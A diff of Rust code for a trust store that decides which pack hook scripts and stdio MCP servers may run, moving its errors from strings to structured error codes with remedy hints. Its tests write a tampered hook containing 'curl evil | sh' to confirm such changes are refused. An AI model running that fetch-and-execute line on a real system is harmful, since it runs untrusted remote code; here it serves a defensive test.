@@ -119,10 +119,7 @@ impl TrustStore {
     }
 
     fn save(&self, guard: &RootGuard) -> Result<()> {
-        check_store_private(&guard.root).map_err(|why| {
-            DistError::new("trust.unsafe-store", why.clone())
-                .help("the trust store decides what runs on this host: make the install root, its .apiary/ and .apiary/trust.json yours and writable only by you (chmod go-w)")
-        })?;
+        check_store_private(&guard.root)?;
         let path = guard.state.join(TRUST_FILE);
         let mut text = serde_json::to_string_pretty(self)
             .map_err(|e| DistError::new("trust.write", e.to_string()))?;
@@ -132,10 +129,16 @@ impl TrustStore {
     }
 }
 
+/// The trust store (or the directories holding it) may be changed by someone else.
+fn unsafe_store(why: String) -> DistError {
+    DistError::new("trust.unsafe-store", why)
+        .help("the trust store decides what runs on this host: make the install root, its .apiary/ and .apiary/trust.json yours and writable only by you (chmod go-w)")
+}
+
 /// Checks that only the current user can change `path`: it belongs to them and is not writable by
 /// group or others (like ssh's `StrictModes`). `follow`: a link is followed (the install root may
 /// be one), else a link is refused.
-pub fn check_private(path: &Path, follow: bool) -> Result<(), String> {
+pub fn check_private(path: &Path, follow: bool) -> Result<()> {
     #[cfg(unix)]
     {
         use std::os::unix::fs::MetadataExt;
@@ -144,21 +147,24 @@ pub fn check_private(path: &Path, follow: bool) -> Result<(), String> {
         } else {
             std::fs::symlink_metadata(path)
         }
-        .map_err(|e| format!("cannot check {}: {e}", path.display()))?;
+        .map_err(|e| unsafe_store(format!("cannot check {}: {e}", path.display())))?;
         if meta.file_type().is_symlink() {
-            return Err(format!("{} is a symbolic link", path.display()));
+            return Err(unsafe_store(format!(
+                "{} is a symbolic link",
+                path.display()
+            )));
         }
         // SAFETY: geteuid has no preconditions and cannot fail.
         let me = unsafe { libc::geteuid() };
         if meta.uid() != me {
-            return Err(format!(
+            return Err(unsafe_store(format!(
                 "{} belongs to uid {}, not to you (uid {me})",
                 path.display(),
                 meta.uid()
-            ));
+            )));
         }
         if meta.mode() & 0o022 != 0 {
-            return Err(format!(
+            return Err(unsafe_store(format!(
                 "{} is writable by {} (mode {:o})",
                 path.display(),
                 if meta.mode() & 0o002 != 0 {
@@ -167,7 +173,7 @@ pub fn check_private(path: &Path, follow: bool) -> Result<(), String> {
                     "its group"
                 },
                 meta.mode() & 0o7777
-            ));
+            )));
         }
     }
     #[cfg(not(unix))]
@@ -176,7 +182,7 @@ pub fn check_private(path: &Path, follow: bool) -> Result<(), String> {
 }
 
 /// [`check_private`] for the install root, its `.apiary/` and the store (when they exist).
-fn check_store_private(root: &Path) -> Result<(), String> {
+fn check_store_private(root: &Path) -> Result<()> {
     check_private(root, true)?;
     let state = root.join(STATE_DIR);
     if std::fs::symlink_metadata(&state).is_ok() {
@@ -229,11 +235,11 @@ impl TrustView {
         if std::fs::symlink_metadata(TrustStore::path(&view.root)).is_err() {
             return view;
         }
-        match check_store_private(&view.root)
-            .and_then(|()| TrustStore::load(&view.root).map_err(|e| e.message))
-        {
+        match check_store_private(&view.root).and_then(|()| TrustStore::load(&view.root)) {
             Ok(store) => view.store = store,
-            Err(why) => view.problem = Some(format!("the trust store is not used: {why}")),
+            Err(e) => {
+                view.problem = Some(format!("the trust store is not used: {}", e.message));
+            }
         }
         view
     }
@@ -254,16 +260,16 @@ impl TrustView {
     }
 
     /// The trust recorded for exactly this pack: its location, id and version.
-    fn entry(&self, pack: &PackRef) -> Result<&PackTrust, String> {
+    fn entry(&self, pack: &PackRef) -> Result<&PackTrust> {
         if let Some(p) = &self.problem {
-            return Err(p.clone());
+            return Err(DistError::new("trust.unusable", p.clone()));
         }
         let entry = if self.is_installed_copy(pack) {
             self.store.packs.get(&pack.id).ok_or_else(|| {
-                format!(
+                untrusted(format!(
                     "nothing of {} {} was trusted by the operator",
                     pack.id, pack.version
-                )
+                ))
             })?
         } else {
             self.store
@@ -272,58 +278,70 @@ impl TrustView {
                 .filter(|d| d.pack_id == pack.id)
                 .map(|d| &d.trust)
                 .ok_or_else(|| {
-                    format!(
+                    untrusted(format!(
                         "{} is not the installed copy of {} and the operator never trusted this directory",
                         pack.root.display(),
                         pack.id
-                    )
+                    ))
                 })?
         };
         if entry.version != pack.version {
-            return Err(format!(
-                "trust was recorded for version {}, not {}",
-                entry.version, pack.version
+            return Err(DistError::new(
+                "trust.version",
+                format!(
+                    "trust was recorded for version {}, not {}",
+                    entry.version, pack.version
+                ),
             ));
         }
         Ok(entry)
     }
 
     /// Whether the script hook `command` (as written, e.g. `./hooks/setup.sh --fast`) of `pack` may
-    /// run now: its file's current digest and this command line were trusted. `Err` says why not.
-    pub fn hook(&self, pack: &PackRef, command: &str) -> Result<(), String> {
+    /// run now: its file's current digest and this command line were trusted. `Err` says why not;
+    /// its help is the command that records trust ([`TrustView::remedy`]).
+    pub fn hook(&self, pack: &PackRef, command: &str) -> Result<()> {
+        self.hook_trusted(pack, command)
+            .map_err(|e| e.help(self.remedy(pack)))
+    }
+
+    fn hook_trusted(&self, pack: &PackRef, command: &str) -> Result<()> {
         let entry = self.entry(pack)?;
         let (rel, abs) = hook_file(&pack.root, command)?;
-        let digest =
-            super::sha256_file(&abs).map_err(|e| format!("cannot read {}: {e}", abs.display()))?;
+        let digest = super::sha256_file(&abs).map_err(|e| DistError::io("cannot read", &abs, e))?;
         match entry.hooks.iter().find(|h| h.path == rel) {
-            None => Err(format!("{rel} was never trusted")),
-            Some(h) if !h.sha256.eq_ignore_ascii_case(&digest) => {
-                Err(format!("{rel} changed since it was trusted"))
-            }
-            Some(h) if !h.commands.iter().any(|c| c == command) => {
-                Err(format!("the command line `{command}` was never trusted"))
-            }
+            None => Err(untrusted(format!("{rel} was never trusted"))),
+            Some(h) if !h.sha256.eq_ignore_ascii_case(&digest) => Err(DistError::new(
+                "trust.changed",
+                format!("{rel} changed since it was trusted"),
+            )),
+            Some(h) if !h.commands.iter().any(|c| c == command) => Err(untrusted(format!(
+                "the command line `{command}` was never trusted"
+            ))),
             Some(_) => Ok(()),
         }
     }
 
     /// Whether the agent may be handed `server` of `pack`: an HTTP server runs nothing here; a
-    /// stdio server's definition must have been trusted. `Err` says why not.
-    pub fn mcp_server(&self, pack: &PackRef, server: &McpServer) -> Result<(), String> {
+    /// stdio server's definition must have been trusted. `Err` says why not; its help is the
+    /// command that records trust ([`TrustView::remedy`]).
+    pub fn mcp_server(&self, pack: &PackRef, server: &McpServer) -> Result<()> {
         let Some(digest) = mcp_digest(server) else {
             return Ok(());
         };
-        let entry = self.entry(pack)?;
+        let entry = self.entry(pack).map_err(|e| e.help(self.remedy(pack)))?;
         if entry.mcp_servers.iter().any(|m| m.sha256 == digest) {
-            Ok(())
-        } else if entry.mcp_servers.iter().any(|m| m.name == server.name) {
-            Err(format!(
-                "MCP server `{}` changed since it was trusted",
-                server.name
-            ))
-        } else {
-            Err(format!("MCP server `{}` was never trusted", server.name))
+            return Ok(());
         }
+        let e = if entry.mcp_servers.iter().any(|m| m.name == server.name) {
+            DistError::new(
+                "trust.changed",
+                format!("MCP server `{}` changed since it was trusted", server.name),
+            )
+        } else {
+            untrusted(format!("MCP server `{}` was never trusted", server.name))
+        };
+        Err(e.help(self.remedy(pack)))
     }
 
     /// The command that reviews and records trust for `pack` in this store.
@@ -333,7 +351,7 @@ impl TrustView {
         } else {
             quote(&pack.root.to_string_lossy())
         };
-        let default = super::resolve_root(None)
+        let default = crate::paths::install_root(None)
             .ok()
             .and_then(|d| d.canonicalize().ok().or(Some(d)));
         if default.as_deref() == Some(self.root.as_path()) {
@@ -347,11 +365,16 @@ impl TrustView {
     }
 }
 
+/// What the operator never trusted.
+fn untrusted(why: String) -> DistError {
+    DistError::new("trust.untrusted", why)
+}
+
 /// The pack-relative (`/`-separated) and absolute path of the file a hook command runs.
-fn hook_file(pack_root: &Path, command: &str) -> Result<(String, PathBuf), String> {
+fn hook_file(pack_root: &Path, command: &str) -> Result<(String, PathBuf)> {
     let token = command.split_whitespace().next().unwrap_or(command);
     let abs = crate::pack::paths::resolve_inside(pack_root, token)
-        .map_err(|e| format!("hook `{command}`: {e}"))?;
+        .map_err(|e| DistError::new("trust.hook-path", format!("hook `{command}`: {e}")))?;
     let rel = crate::pack::paths::relative_to(pack_root, &abs)
         .components()
         .map(|c| c.as_os_str().to_string_lossy().into_owned())
@@ -402,27 +425,7 @@ pub fn command_line(server: &McpServer) -> Option<String> {
     Some(words.join(" "))
 }
 
-/// One word quoted for a POSIX shell, with anything but printable ASCII escaped (`$'…'`).
-pub fn quote(word: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:=@%+,-${}".contains(c);
-    if !word.is_empty() && word.chars().all(plain) {
-        return word.to_string();
-    }
-    if word.chars().all(|c| c.is_ascii_graphic() || c == ' ') {
-        return format!("'{}'", word.replace('\'', r"'\''"));
-    }
-    let mut out = String::from("$'");
-    for c in word.chars() {
-        match c {
-            '\'' => out.push_str(r"\'"),
-            '\\' => out.push_str(r"\\"),
-            c if c.is_ascii_graphic() || c == ' ' => out.push(c),
-            c => out.extend(c.escape_default()),
-        }
-    }
-    out.push('\'');
-    out
-}
+pub use apiary_core::shell::quote;
 
 /// A stdio MCP server of a pack, for review.
 #[derive(Debug, Clone, Serialize)]
@@ -901,8 +904,16 @@ mod tests {
         let view = TrustView::load(&root);
         let pack = pack_ref(&dir);
         let why = view.hook(&pack, "./hooks/a.sh --x").unwrap_err();
-        assert!(why.contains("never trusted this directory"), "{why}");
+        assert!(
+            why.message.contains("never trusted this directory"),
+            "{why}"
+        );
         assert!(view.remedy(&pack).contains(&*dir.to_string_lossy()));
+        assert_eq!(
+            why.help,
+            Some(view.remedy(&pack)),
+            "the refusal says how to trust"
+        );
 
         let review = review(&root, &target).unwrap();
         assert_eq!(review.hooks.len(), 1);
@@ -937,10 +948,13 @@ mod tests {
         // A changed hook file or server definition: not trusted.
         std::fs::write(dir.join("hooks/a.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
         let why = view.hook(&pack, "./hooks/a.sh --x").unwrap_err();
-        assert!(why.contains("changed"), "{why}");
+        assert!(why.message.contains("changed"), "{why}");
         let changed = stdio("tool", "/bin/sh", &["-c", "id"]);
         let why = view.mcp_server(&pack, &changed).unwrap_err();
-        assert!(why.contains("changed since it was trusted"), "{why}");
+        assert!(
+            why.message.contains("changed since it was trusted"),
+            "{why}"
+        );
         // Revoked: nothing.
         assert!(forget_target(&guard, &target).unwrap());
         std::fs::write(dir.join("hooks/a.sh"), "#!/bin/sh\necho hi\n").unwrap();
@@ -999,7 +1013,7 @@ mod tests {
         .unwrap();
         let forged_ref = pack_ref(&forged);
         let why = view.hook(&forged_ref, "./hooks/a.sh --x").unwrap_err();
-        assert!(why.contains("not the installed copy"), "{why}");
+        assert!(why.message.contains("not the installed copy"), "{why}");
         // A directory named like another pack id, whose manifest says otherwise.
         let misnamed = root.join("com.example.q");
         write_pack(&misnamed, "com.example.p", "1.0.0", "#!/bin/sh\necho hi\n");
